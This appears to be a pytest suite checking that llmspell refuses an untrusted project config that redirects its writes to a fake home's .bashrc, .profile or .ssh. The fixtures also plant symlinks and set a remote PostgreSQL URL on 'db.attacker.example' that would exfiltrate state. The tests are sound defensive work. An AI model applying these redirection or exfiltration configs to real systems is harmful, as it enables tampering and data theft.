"""An untrusted ./llmspell.toml may not point files llmspell writes outside the working directory, the temp
directory and the data directory (state database, RAG store, event export, Debug output).

The attacks run through the real CLI: the run is refused at load (exit 2) naming the key, the path and
`llmspell config trust`, and the victim file in a fake HOME is untouched; after the trust step the same
run writes there (so the refusal is what stopped it). Paths inside the working directory need no trust.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from llmspell.config import ConfigError, load_config
from llmspell.providers.trust import trust

ORIGINAL = "# the user's shell startup file\n"


def _env(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("LLMSPELL_", "OPENAI_", "ANTHROPIC_"))}
    for d in ("home", "xdg", "data", "tmp", "proj"):
        (tmp_path / d).mkdir(exist_ok=True)
    env.update(HOME=str(tmp_path / "home"), XDG_CONFIG_HOME=str(tmp_path / "xdg"),
               XDG_DATA_HOME=str(tmp_path / "data"), TMPDIR=str(tmp_path / "tmp"), PYTHONUNBUFFERED="1")
    return env


def _run(args: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "llmspell.cli.main", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=120)


# (table, key, victim relative to HOME, what is written there, flags, script, label in the message)
ATTACKS = [
    ("events.export", "file", ".bashrc", "text", [], 'Event.publish("app.x", {n = 1})', "[events.export] file"),
    ("debug", "output", ".profile", "text", [], 'Debug.warn("hello", "app")', "[debug] output"),
    ("state", "path", "victim.sqlite3", "db", [], 'State.save("custom", "k", "v")', "[state] path"),
    ("state", "path", ".ssh", "dir", [], 'State.save("custom", "k", "v")', "[state] path"),
    ("rag", "persistence_path", "victim.sqlite3", "db", ["--rag"], 'RAG.ingest({content = "hello world"})',
     "[rag] persistence_path"),
    ("rag.vector_storage", "persistence_path", "ragdir", "dir", ["--rag"], 'RAG.ingest({content = "hello world"})',
     "[rag.vector_storage] persistence_path"),
]


@pytest.mark.parametrize(("table", "key", "victim", "kind", "flags", "script", "label"), ATTACKS,
                         ids=[f"{a[0]}.{a[1]}-{a[3]}" for a in ATTACKS])
def test_an_untrusted_cwd_config_may_not_write_outside(tmp_path: Path, table: str, key: str, victim: str, kind: str,
                                                        flags: list[str], script: str, label: str) -> None:
    env = _env(tmp_path)
    proj, target = tmp_path / "proj", tmp_path / "home" / victim
    if kind == "text":
        target.write_text(ORIGINAL)
    (proj / "llmspell.toml").write_text(f'[{table}]\n{key} = "{target}"\n')
    (proj / "s.lua").write_text(script + '\nprint("ran")\n')

    r = _run([*flags, "run", "s.lua"], proj, env)
    assert r.returncode == 2 and "ran" not in r.stdout, r.stderr
    assert "(found in the working directory, not trusted)" in r.stderr and label in r.stderr
    assert str(target) in r.stderr and f"llmspell config trust {proj / 'llmspell.toml'}" in r.stderr
    if kind == "text":
        assert target.read_text() == ORIGINAL, "the victim file is untouched"
    else:
        assert not target.exists(), "nothing was created outside"

    # the same run after the trust step writes there: the refusal was what stopped it
    assert _run(["config", "trust"], proj, env).returncode == 0
    r = _run([*flags, "run", "s.lua"], proj, env)
    assert r.returncode == 0 and "ran" in r.stdout, r.stderr
    assert target.exists() and (kind != "text" or target.read_text() != ORIGINAL)


def test_paths_inside_the_working_directory_need_no_trust(tmp_path: Path) -> None:
    env = _env(tmp_path)
    proj = tmp_path / "proj"
    (proj / "llmspell.toml").write_text('[state]\npath = "var/state.db"\n[events.export]\nfile = "var/events.jsonl"\n'
                                        '[debug]\noutput = "var/debug.log"\n')
    (proj / "s.lua").write_text('State.save("custom", "k", "v"); Event.publish("app.x", {}); Debug.warn("w", "app")\n'
                                'print("ran")\n')
    r = _run(["run", "s.lua"], proj, env)
    assert r.returncode == 0 and "ran" in r.stdout, r.stderr
    assert {p.name for p in (proj / "var").iterdir()} >= {"state.db", "events.jsonl", "debug.log"}


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """In-process: cwd = proj, temp dir = tmp/, data dir = data/llmspell, HOME = home/ (outside all three)."""
    env = _env(tmp_path)
    monkeypatch.chdir(tmp_path / "proj")
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    return env


def _write(tmp_path: Path, toml: str) -> Path:
    p = tmp_path / "proj" / "llmspell.toml"
    p.write_text(toml)
    return p


def test_a_symlink_inside_the_working_directory_is_followed_to_its_target(tmp_path: Path,
                                                                         here: dict[str, str]) -> None:
    victim = tmp_path / "home" / ".bashrc"
    victim.write_text(ORIGINAL)
    (tmp_path / "proj" / "events.jsonl").symlink_to(victim)
    _write(tmp_path, '[events.export]\nfile = "events.jsonl"\n')
    with pytest.raises(ConfigError, match=rf"\[events.export\] file = .*resolves to {victim}"):
        load_config(env=here)


def test_a_planted_sqlite_companion_is_refused(tmp_path: Path, here: dict[str, str]) -> None:
    """SQLite writes <db>-wal beside the database: a symlink there would redirect those writes."""
    victim = tmp_path / "home" / ".bashrc"
    (tmp_path / "proj" / "state.db-wal").symlink_to(victim)
    _write(tmp_path, '[state]\npath = "state.db"\n')
    with pytest.raises(ConfigError, match=r"\[state\] path = .*writes .*state.db-wal"):
        load_config(env=here)


def test_the_temp_and_data_directories_are_allowed(tmp_path: Path, here: dict[str, str]) -> None:
    _write(tmp_path, f'[state]\npath = "{tmp_path / "data" / "llmspell" / "s.db"}"\n'
                     f'[events.export]\nfile = "{tmp_path / "tmp" / "e.jsonl"}"\n')
    cfg = load_config(env=here)
    assert cfg.origin == "cwd" and cfg.settings.events.export_file == str(tmp_path / "tmp" / "e.jsonl")


def test_the_environment_and_the_command_line_are_the_users_choice(tmp_path: Path, here: dict[str, str]) -> None:
    outside = tmp_path / "home" / "s.db"
    _write(tmp_path, f'[state]\npath = "{outside}"\n')
    with pytest.raises(ConfigError):
        load_config(env=here)
    elsewhere = str(tmp_path / "home" / "mine.db")
    cfg = load_config(env={**here, "LLMSPELL_STATE_PATH": elsewhere})
    assert cfg.settings.state.path == Path(elsewhere), "the file's path is replaced, so it is not vetted"
    cfg = load_config(env={**here, "LLMSPELL_STATE_BACKEND": "memory"})
    assert cfg.settings.state.backend == "memory", "no database is written, nothing to refuse"


def test_explicit_and_home_configs_and_trusted_files_are_not_gated(tmp_path: Path, here: dict[str, str]) -> None:
    toml = f'[events.export]\nfile = "{tmp_path / "home" / ".bashrc"}"\n'
    p = _write(tmp_path, toml)
    assert load_config(p, env=here).origin == "explicit"
    assert load_config(env={**here, "LLMSPELL_CONFIG": str(p)}).origin == "explicit"
    trust(p, here)
    assert load_config(env=here).origin == "cwd"
    p.write_text(toml + "# edited\n")
    with pytest.raises(ConfigError, match="not trusted"):
        load_config(env=here)
    p.unlink()
    (tmp_path / "home" / ".llmspell.toml").write_text(toml)
    assert load_config(env=here).origin == "home"


@pytest.mark.parametrize(("key", "victim", "what"), [
    ("[events.export]\nfile", "state.sqlite3", "state database"),
    ("[debug]\noutput", "repl_history", "REPL history"),
])
def test_text_outputs_may_not_be_appended_to_llmspells_own_files(tmp_path: Path, here: dict[str, str], key: str,
                                                                 victim: str, what: str) -> None:
    """Inside the data directory, but appending JSON lines to the state database would corrupt it."""
    target = tmp_path / "data" / "llmspell" / victim
    _write(tmp_path, f'{key} = "{target}"\n')
    with pytest.raises(ConfigError, match=f"which is llmspell's {what}.*llmspell config trust"):
        load_config(env=here)
    _write(tmp_path, f'{key} = "{tmp_path / "data" / "llmspell" / "mine.log"}"\n')
    assert load_config(env=here).origin == "cwd", "another file in the data directory is fine"


def test_a_planted_backups_folder_is_refused(tmp_path: Path, here: dict[str, str]) -> None:
    """State.create_backup writes <db folder>/backups/: a symlink there would put copies in ~/.ssh."""
    (tmp_path / "home" / ".ssh").mkdir()
    (tmp_path / "proj" / "backups").symlink_to(tmp_path / "home" / ".ssh")
    _write(tmp_path, '[state]\npath = "state.db"\n')
    with pytest.raises(ConfigError, match=r"\[state\] path = .*writes .*backups.*resolves to .*\.ssh"):
        load_config(env=here)


def test_an_untrusted_cwd_config_may_not_send_state_to_another_host(tmp_path: Path, here: dict[str, str]) -> None:
    """A [state] url (or connection_string_env) naming a remote PostgreSQL server would copy every State value there."""
    remote = "postgresql://llm:hunter2@db.attacker.example:5432/loot"
    p = _write(tmp_path, f'[state]\nbackend = "postgres"\nurl = "{remote}"\n')
    with pytest.raises(ConfigError, match=r"PostgreSQL server on another host through \[state\] url") as ei:
        load_config(env=here)
    assert "hunter2" not in str(ei.value), "the URL (with its password) is not echoed"
    _write(tmp_path, '[state]\nbackend = "postgres"\nconnection_string_env = "LOOT_DSN"\n')
    with pytest.raises(ConfigError, match=r"connection_string_env \(LOOT_DSN\)"):
        load_config(env={**here, "LOOT_DSN": "host=10.9.8.7 dbname=loot user=x"})
    for local in ("postgresql://u@127.0.0.1:5432/db", "postgresql://u@localhost/db", "postgresql:///db?host=/run/pg",
                  "host=/var/run/postgresql dbname=db", "dbname=db"):
        _write(tmp_path, f'[state]\nbackend = "postgres"\nurl = "{local}"\n')
        assert load_config(env=here).settings.state.url == local, local
    p = _write(tmp_path, f'[state]\nbackend = "postgres"\nurl = "{remote}"\n')
    trust(p, here)
    assert load_config(env=here).settings.state.url == remote


def test_config_show_and_validate_inspect_an_untrusted_file_with_a_warning(tmp_path: Path) -> None:
    """`config show`/`validate` act on nothing, so they show the file and warn; a command that runs code refuses it."""
    env = _env(tmp_path)
    proj, victim = tmp_path / "proj", tmp_path / "home" / ".bashrc"
    victim.write_text(ORIGINAL)
    (proj / "llmspell.toml").write_text(f'[events.export]\nfile = "{victim}"\n')
    shown = _run(["config", "show", "events.export.file"], proj, env)
    assert shown.returncode == 0 and str(victim) in shown.stdout
    assert "refuses this file until it is trusted" in shown.stderr and "llmspell config trust" in shown.stderr
    checked = _run(["config", "validate"], proj, env)
    assert checked.returncode == 0 and "ok" in checked.stdout and "not trusted" in checked.stderr
    ran = _run(["exec", 'Event.publish("app.x", {n = 1})'], proj, env)
    assert ran.returncode == 2 and "not trusted" in ran.stderr and victim.read_text() == ORIGINAL


def test_a_link_planted_inside_a_folder_llmspell_writes_into_is_refused(tmp_path: Path, here: dict[str, str]) -> None:
    """The RAG index folder and the backups folder are vetted entry by entry: a repository that ships
    `rag/index/default.hnsw.json -> ~/.bashrc` is refused at load, before anything is written."""
    victim = tmp_path / "home" / ".bashrc"
    victim.write_text(ORIGINAL)
    index = tmp_path / "proj" / "rag" / "index"
    index.mkdir(parents=True)
    (index / "default.hnsw.json").symlink_to(victim)
    _write(tmp_path, '[rag]\npersistence_path = "rag"\n')
    with pytest.raises(ConfigError, match=r"\[rag\] persistence_path = .*default.hnsw.json.*resolves to .*\.bashrc"):
        load_config(env=here)
    (index / "default.hnsw.json").unlink()
    (index / "default.hnsw.json").write_text("{}")
    assert load_config(env=here).origin == "cwd", "regular files inside the folder are fine"
    backups = tmp_path / "proj" / "backups"
    backups.mkdir()
    (backups / "b1.sqlite3").symlink_to(victim)
    _write(tmp_path, '[state]\npath = "state.db"\n')
    with pytest.raises(ConfigError, match=r"\[state\] path = .*b1.sqlite3.*resolves to .*\.bashrc"):
        load_config(env=here)
    assert victim.read_text() == ORIGINAL
